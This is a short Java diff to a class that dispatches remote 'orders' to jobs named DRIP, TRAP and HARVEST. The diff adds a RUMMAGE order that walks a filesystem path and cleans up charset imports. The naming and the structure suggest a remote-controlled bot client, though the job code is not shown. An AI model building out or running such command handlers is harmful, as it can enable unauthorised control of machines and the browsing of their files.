@@ -5,6 +5,8 @@ import java.net.DatagramPacket;
 import java.net.DatagramSocket;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
 import java.util.Arrays;
 import java.util.HashMap;
 import java.util.Map;
@@ -31,6 +33,7 @@ final class Deeds {
       case DRIP -> begin(order.word(0), new Drip(order.target(1), order.bytes(4)), order.number(3));
       case TRAP -> begin(order.word(0), new Trap(order.number(1)), 1);
       case HARVEST -> harvest(order.word(0));
+      case RUMMAGE -> Rummage.below(Path.of(order.word(0)));
     };
   }
 
@@ -85,7 +88,7 @@ final class Deeds {
     if (!InetAddress.getByName(order.word(0)).isReachable(order.number(1))) {
       throw new IOException("no echo");
     }
-    return "echo".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
+    return "echo".getBytes(StandardCharsets.US_ASCII);
   }
 
   private byte[] begin(String name, Background work, int threads) {
@@ -99,6 +102,6 @@ final class Deeds {
     if (work == null) {
       throw new IOException("nothing of that name goes on");
     }
-    return work.harvest().getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
+    return work.harvest().getBytes(StandardCharsets.ISO_8859_1);
   }
 }
